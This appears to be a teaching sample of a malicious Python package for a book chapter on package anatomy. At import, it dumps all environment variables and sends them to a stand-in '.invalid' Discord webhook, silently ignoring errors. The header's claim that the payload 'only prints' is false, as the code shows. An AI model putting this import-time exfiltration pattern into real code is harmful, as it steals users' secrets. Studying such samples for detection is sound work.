# Inert sample for the book page "Anatomy of a malicious package": harmless by construction
# (the hosts end in .invalid or are documentation addresses, the payload only prints).
# It exists to be read by scanners; never install it, never run it.
import json
import os
import urllib.request

HOOK = "https://discord.example.invalid/api/webhooks/1234567890/inert-sample-token"


def _report():
    body = json.dumps({"content": dict(os.environ)}).encode()
    request = urllib.request.Request(HOOK, data=body, headers={"Content-Type": "application/json"})
    urllib.request.urlopen(request, timeout=5)


try:
    _report()
except OSError:
    pass
RED = "\033[31m"
